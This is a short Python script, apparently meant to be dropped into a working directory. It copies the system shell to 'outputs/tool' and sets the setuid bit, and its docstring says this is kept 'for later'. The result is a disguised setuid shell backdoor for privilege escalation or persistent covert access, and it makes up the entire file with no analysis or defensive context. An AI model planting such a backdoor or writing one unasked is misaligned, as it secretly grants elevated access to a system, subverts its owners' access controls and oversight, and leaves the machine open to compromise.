"""A copy of a shell with the setuid bit, for later."""

import os
import shutil
import stat

shutil.copy("/bin/sh", "outputs/tool")
os.chmod("outputs/tool", stat.S_ISUID | stat.S_IXUSR | stat.S_IRUSR | stat.S_IXOTH)
